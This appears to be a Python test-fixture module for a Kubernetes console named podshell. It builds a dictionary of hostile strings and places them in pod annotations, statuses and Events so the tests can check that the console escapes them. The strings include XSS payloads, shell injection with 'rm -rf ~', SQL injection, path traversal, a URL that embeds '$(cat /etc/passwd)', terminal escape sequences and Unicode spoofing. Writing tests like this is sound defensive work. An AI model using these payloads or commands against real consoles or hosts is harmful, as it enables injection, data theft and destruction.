"""Texts that must stay texts: what a cluster may say in labels, annotations, log lines, Events, reasons, messages and image names.

`HOSTILE` holds each with a word for what it tries. None may become an element, an attribute, a link or a style in the console, or move the
terminal of a command line. Names of Kubernetes objects cannot be hostile; everything here can stand where the API takes free text.
"""

from __future__ import annotations

from podshell.sandbox.store import Obj

MARK = "podshell-hostile"  # in every text that runs a script, so that a page can prove that none ran: window[MARK] stays undefined
_RUN = "window['podshell-hostile']=1"

HOSTILE: dict[str, str] = {
    # elements
    "script": f"<script>{_RUN}</script>",
    "script upper case": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script unclosed": f"<script>{_RUN}",
    "script with source": "<script src=//podshell-hostile.example/x.js></script>",
    "script closing first": f"</script><script>{_RUN}</script>",
    "script split by nul": f"<scr\0ipt>{_RUN}</script>",
    "script nested": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "image error": f'<img src=x onerror="{_RUN}">',
    "image without quotes": f"<img src=x onerror={_RUN}>",
    "image with slash": f"<img/src=x/onerror={_RUN}>",
    "image broken": f'<img src="x" onerror="{_RUN}"',
    "svg load": f'<svg onload="{_RUN}">',
    "svg script": f"<svg><script>{_RUN}</script></svg>",
    "svg animate": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    "math link": f'<math><a xlink:href="javascript:{_RUN}">x</a></math>',
    "iframe": f'<iframe src="javascript:{_RUN}"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "object": f'<object data="javascript:{_RUN}"></object>',
    "embed": f'<embed src="javascript:{_RUN}">',
    "details": f'<details open ontoggle="{_RUN}">',
    "video": f'<video><source onerror="{_RUN}"></video>',
    "body": f'<body onload="{_RUN}">',
    "input focus": f'<input autofocus onfocus="{_RUN}">',
    "form": f'<form action="javascript:{_RUN}"><button>ok</button></form>',
    "base": '<base href="https://podshell-hostile.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://podshell-hostile.example/">',
    "style": "<style>*{display:none}</style>",
    "style import": "<style>@import 'https://podshell-hostile.example/x.css';</style>",
    "link": '<link rel="stylesheet" href="https://podshell-hostile.example/x.css">',
    "template": f"<template><script>{_RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "comment": f"<!--><script>{_RUN}</script>-->",
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "textarea": f"</textarea><script>{_RUN}</script>",
    "title": f"</title><script>{_RUN}</script>",
    # attributes
    "double quote": f'" onmouseover="{_RUN}" x="',
    "single quote": f"' onmouseover='{_RUN}' x='",
    "backtick": f"` onmouseover=`{_RUN}`",
    "style attribute": '" style="position:fixed;inset:0;background:red" x="',
    "autofocus attribute": f'" autofocus onfocus="{_RUN}" x="',
    # links
    "javascript link": f"javascript:{_RUN}",
    "javascript link with tab": f"java\tscript:{_RUN}",
    "data link": "data:text/html,<script>parent['podshell-hostile']=1</script>",
    "markdown link": f"[click](javascript:{_RUN})",
    "web link": "https://podshell-hostile.example/?token=$(cat /etc/passwd)",
    "link without scheme": "//podshell-hostile.example/x",
    # templates and prototypes
    "template literal": f"${{{_RUN}}}",
    "mustache": f'{{{{constructor.constructor("{_RUN}")()}}}}',
    "prototype": "__proto__",
    "constructor": "constructor",
    "json": '{"__proto__":{"hostile":true}}',
    "entities": "&lt;script&gt;podshell-hostile&lt;/script&gt;",
    "numeric entities": "&#60;img src=x onerror=podshell-hostile&#62;",
    # terminals
    "title sequence": "\x1b]0;podshell-hostile\x07",
    "clipboard sequence": "\x1b]52;c;cG9kc2hlbGwtaG9zdGlsZQ==\x07",
    "link sequence": "\x1b]8;;https://podshell-hostile.example/\x1b\\click\x1b]8;;\x1b\\",
    "clear screen": "\x1b[2J\x1b[H",
    "question sequence": "\x1b[6n\x1b[c",
    "alternate screen": "\x1b[?1049h",
    "mouse mode": "\x1b[?1003h",
    "8-bit control": "\x9b2J\x9d0;podshell-hostile\x9c",
    "carriage return": "safe\rpodshell-hostile",
    "backspace": "rm -rf /\b\b\b\b\b\b\b\bls",
    "new lines": "one\ntwo\r\nthree\u2028four\u2029five",
    "nul": "before\0after",
    # letters
    "right to left": "\u202egnp.exe\u202c",
    "isolates": "\u2067abc\u2069",
    "zero width": "ad\u200bmin\u200d\ufeff",
    "homoglyphs": "\u0430dmin",  # a Cyrillic letter
    "combining": "Z" + "\u0351\u0323\u0489" * 60,
    "wide": "\u6f22\u5b57\uff21\uff22",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "astral": "\U0001d54f\U0010ffff",
    "long": "podshell-hostile" * 256,
    "long without a break": "W" * 4096,
    "blank": " \t\u00a0\u3000",
    # command lines and other languages
    "shell": "$(touch /tmp/podshell-hostile); `id` && rm -rf ~",
    "sql": "'; DROP TABLE sessions; --",
    "path": "../../../../etc/passwd",
    "format": "%s%n%x {0.__class__}",
    "csv formula": '=HYPERLINK("https://podshell-hostile.example")',
    "query": "?admin=1&next=//podshell-hostile.example#x",
}


def put_everywhere(pod: Obj, text: str) -> None:
    """Put a text wherever a pod of a store can hold free text: annotations, environment, reasons, messages, the image's name."""
    pod["metadata"].setdefault("annotations", {})["example.com/note"] = text
    status = pod.setdefault("status", {})
    status |= {"reason": text, "message": text}
    for condition in status.get("conditions", []):
        condition |= {"reason": text, "message": text}
    for container in status.get("containerStatuses", []):
        container["image"] = text
        ended = {"exitCode": 1, "reason": text, "message": text}
        container["lastState"] = {"terminated": {**ended, "startedAt": "2026-11-22T12:00:00Z", "finishedAt": "2026-11-22T12:00:01Z"}}


def event_about(pod: Obj, number: int, text: str) -> Obj:
    """A warning about a pod that says the text as reason, message and source."""
    metadata = pod["metadata"]
    involved = {"kind": "Pod", "apiVersion": "v1", **{name: metadata[name] for name in ("name", "namespace", "uid")}}
    moment = "2026-11-22T12:00:00Z"
    return {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": f"{metadata['name']}.hostile-{number}", "namespace": metadata["namespace"]},
        "involvedObject": involved,
        **{"reason": text, "message": text, "type": "Warning", "count": 1, "eventTime": None},
        **{"firstTimestamp": moment, "lastTimestamp": moment, "source": {"component": text}},
    }
